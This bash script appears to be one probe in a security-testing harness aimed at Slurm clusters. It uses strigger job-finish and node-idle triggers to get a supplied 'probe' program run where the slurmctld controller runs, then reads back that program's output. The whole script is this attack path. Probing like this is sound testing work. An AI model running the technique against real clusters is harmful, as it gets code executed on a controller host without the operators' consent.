#!/bin/bash
# title: strigger, whose program runs where slurmctld does
# door: slurm
# blind: yes
job=$(sbatch --parsable -w "$NODE" -n1 -o /dev/null --wrap 'sleep 2')
printf '#!/bin/sh\n"%s/probe" >"%s/out"\n' "$ATTACK" "$WORK" >"$WORK/program"
chmod +x "$WORK/program"
accepted=0
strigger --set --jobid="$job" --fini --program="$WORK/program" 2>&1 && accepted=1
strigger --set --node="$NODE" --idle --program="$WORK/program" 2>&1 && accepted=1
echo "tried: strigger"
# slurmctld looks at its triggers every 15 seconds.
((accepted == 0)) || sleep 25
strigger --clear --user="$USER" --quiet 2>/dev/null
cat "$WORK/out" 2>/dev/null
exit 0
